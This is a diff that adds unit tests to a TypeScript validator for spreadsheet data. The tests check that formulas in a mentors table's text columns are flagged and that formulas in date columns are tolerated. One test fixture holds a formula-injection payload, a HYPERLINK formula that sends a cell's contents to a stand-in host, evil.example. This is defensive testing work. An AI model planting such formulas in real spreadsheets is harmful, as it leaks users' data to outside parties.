@@ -349,3 +349,22 @@ describe("validateBase", () => {
     );
   });
 });
+
+describe("formulas in text columns", () => {
+  test("a formula where a name should be is a warning that names the formula", () => {
+    const data = tableData("mentors", [{ ...MENTOR, fullName: "#FORMULA!" }]);
+    const formulas = data.rows.map((r) => r.map(() => ""));
+    formulas[0]![data.columns.fullName!] = '=HYPERLINK("http://evil.example/?"&M2,"Подробнее")';
+    const r = check(base({ mentors: { ...data, formulas } }));
+    const [p] = at(r.problems, "mentors", 2, "fullName");
+    expect(p).toMatchObject({ code: "formulaInCell", severity: "warning" });
+    expect(p?.message).toContain("=HYPERLINK(");
+  });
+
+  test("a formula in a date or number column is the curator's business", () => {
+    const data = tableData("mentors", [{ ...MENTOR, entryDate: isoToDateCell("2026-09-01", MSK) }]);
+    const formulas = data.rows.map((r) => r.map(() => ""));
+    formulas[0]![data.columns.entryDate!] = "=TODAY()";
+    expect(check(base({ mentors: { ...data, formulas } })).problems).toEqual([]);
+  });
+});
